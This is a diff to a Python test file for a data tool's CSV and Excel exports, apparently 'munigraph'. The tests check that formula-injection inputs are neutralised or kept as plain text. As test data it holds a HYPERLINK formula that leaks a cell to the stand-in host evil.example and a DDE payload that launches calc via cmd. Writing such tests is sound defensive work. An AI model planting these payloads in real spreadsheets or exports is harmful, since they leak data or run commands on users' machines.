@@ -4,6 +4,8 @@ import csv
 import datetime
 import io
 import json
+import zipfile
+from xml.etree import ElementTree
 
 import pytest
 from click.testing import CliRunner
@@ -31,6 +33,34 @@ def run(*args):
 
 def sheet_rows(sheet):
     return [[c.value for c in row] for row in sheet.iter_rows()]
+
+
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"  # the namespace of a sheet's XML
+
+
+def xml_cells(book: bytes) -> dict:
+    """The cells of each sheet of the workbook ``book`` as its XML holds them, read without
+    openpyxl: ``{"sheet1": {"A1": (type, text)}}``; a formula's type is ``"f"``, its text the
+    formula."""
+    sheets = {}
+    with zipfile.ZipFile(io.BytesIO(book)) as files:
+        names = files.namelist()
+        shared = ([''.join(s.itertext()) for s in ElementTree.fromstring(files.read("xl/sharedStrings.xml"))]
+                  if "xl/sharedStrings.xml" in names else [])
+        for name in names:
+            if name.startswith("xl/worksheets/sheet"):
+                cells = sheets[name.removeprefix("xl/worksheets/").removesuffix(".xml")] = {}
+                for c in ElementTree.fromstring(files.read(name)).iter(f"{MAIN}c"):
+                    kind, formula = c.get("t", "n"), c.find(f"{MAIN}f")
+                    text = "".join(c.itertext())
+                    cells[c.get("r")] = (("f", formula.text) if formula is not None
+                                         else (kind, shared[int(text)]) if kind == "s" else (kind, text))
+    return sheets
+
+
+def formulas(book: bytes) -> list:
+    """The formulas in the sheets of the workbook ``book``, from its XML."""
+    return [text for cells in xml_cells(book).values() for kind, text in cells.values() if kind == "f"]
 
 
 def as_read_back(value):
@@ -171,9 +201,46 @@ def test_csv_for_people_never_holds_a_formula():
     assert json.loads(format_rows(rows, list(rows[0]), "json"))[0]["text"].startswith("=HYPERLINK")
 
 
-def test_hostile_names_reach_csv_neutralised_and_json_unchanged(graph, data, tmp_path):
-    """Actors named as formulas, loaded from a facts file, in `munigraph query --format csv`
-    and explore's CSV download (a leading '), and unchanged in JSON and the Python API."""
+@pytest.mark.pure
+@pytest.mark.parametrize("sep", [",", ";", "\t"])
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_whatever_the_separator(sep):
+    written = {'=HYPERLINK("http://evil.example/?leak="&A1,"x")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+               "@SUM(1)": "'@SUM(1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "-": "'-",
+               "\t=1+1": "'=1+1", "\r@SUM(1)": "'@SUM(1)", "\t\r+1": "'+1",  # the cell drops leading space
+               "\tOlhão": "Olhão", "a=b": "a=b", "Olhão": "Olhão", "": ""}
+    rows = Rows([{"text": text, "n": -3, "x": -0.5, "list": [text, "b"]} for text in written],
+                ["text", "n", "x", "list"])
+    kept = json.loads(json.dumps(rows))
+    cells = list(csv.reader(io.StringIO(rows.format("csv", sep=sep).removeprefix(BOM)), delimiter=sep))
+    assert cells[0] == ["text", "n", "x", "list"]
+    assert [row[0] for row in cells[1:]] == list(written.values())
+    assert {(row[1], row[2]) for row in cells[1:]} == {("-3", "-0.5")}  # numbers stay numbers
+    assert [row[3] for row in cells[1:]] == [f"{after}; b" for after in written.values()]  # lists too
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells[1:] for c in row[:1] + row[3:])
+    assert json.loads(rows.format("json")) == kept == json.loads(json.dumps(rows))  # JSON and the rows unchanged
+
+
+@pytest.mark.pure
+def test_a_workbook_holds_text_never_a_formula():
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "=1+1"]
+    rows = Rows([{"text": text, "list": [text, "b"], "n": -3} for text in hostile], ["text", "list", "n"])
+    book = workbook(rows, query="RETURN '=1+1' AS text", parameters={"text": "=cmd|' /C calc'!A0"}, sources=[])
+    assert formulas(book) == []
+    cells = xml_cells(book)
+    assert [cells["sheet1"][f"A{n}"][1] for n in range(2, 7)] == hostile
+    assert [cells["sheet1"][f"B{n}"][1] for n in range(2, 7)] == [f"{text}; b" for text in hostile]
+    assert {cells["sheet1"][f"{c}{n}"][0] for c in "AB" for n in range(1, 7)} <= {"inlineStr", "s"}
+    assert {cells["sheet1"][f"C{n}"] for n in range(2, 7)} == {("n", "-3")}
+    assert ("inlineStr", "=cmd|' /C calc'!A0") in cells["sheet2"].values()
+    assert ("inlineStr", "RETURN '=1+1' AS text") in cells["sheet2"].values()
+    results = load_workbook(io.BytesIO(book))["Results"]
+    assert all(results[f"A{n}"].quotePrefix for n in range(2, 7))  # stays text when edited, too
+
+
+def test_hostile_names_reach_csv_neutralised_and_json_unchanged(empty_graph, tmp_path):
+    """Actors named as formulas, loaded from a facts file into a store of the test's own, in
+    `munigraph query --format csv` and explore's CSV download (a leading '), unchanged in JSON
+    and the Python API, and text in explore's spreadsheet download."""
     from starlette.testclient import TestClient
 
     from munigraph.viz.explore import app
@@ -184,18 +251,17 @@ def test_hostile_names_reach_csv_neutralised_and_json_unchanged(graph, data, tmp
                     "source_address,quote\n" + '"{}",Portugal,"{}",Spain,exchange,,,2019,'
                     "https://example.org/formulas,a quote\n".format(evil.replace('"', '""'), other),
                     encoding="utf-8")
-    before = graph.digest()
-    graph.load([path])
-    try:
-        shown = run("query", "partners", "-p", f"actor={other}", "--format", "csv", *data).output
-        rows = list(csv.DictReader(io.StringIO(shown.removeprefix(BOM))))
-        downloaded = TestClient(app(graph), base_url="http://127.0.0.1").get(
-            "/api/query/partners.csv", params={"actor": other}).content.decode("utf-8-sig")
-        assert list(csv.DictReader(io.StringIO(downloaded))) == rows
-        assert [row["partner"] for row in rows] == ["'" + evil]
-        assert [row["partner"] for row in graph.query("partners", actor=other)] == [evil]
-        answer = json.loads(run("query", "partners", "-p", f"actor={other}", "--format", "json", *data).output)
-        assert [row["partner"] for row in answer] == [evil]
-    finally:
-        graph.unload([path])
-    assert graph.digest() == before
+    empty_graph.load([path])
+    data = ["--data", empty_graph.store.folder.path]
+    shown = run("query", "partners", "-p", f"actor={other}", "--format", "csv", *data).output
+    rows = list(csv.DictReader(io.StringIO(shown.removeprefix(BOM))))
+    client = TestClient(app(empty_graph), base_url="http://127.0.0.1")
+    downloaded = client.get("/api/query/partners.csv", params={"actor": other}).content.decode("utf-8-sig")
+    assert list(csv.DictReader(io.StringIO(downloaded))) == rows
+    assert [row["partner"] for row in rows] == ["'" + evil]
+    assert [row["partner"] for row in empty_graph.query("partners", actor=other)] == [evil]
+    answer = json.loads(run("query", "partners", "-p", f"actor={other}", "--format", "json", *data).output)
+    assert [row["partner"] for row in answer] == [evil]
+    book = client.get("/api/query/partners.xlsx", params={"actor": other}).content
+    assert evil in [c.value for row in load_workbook(io.BytesIO(book))["Results"].iter_rows() for c in row]
+    assert formulas(book) == []
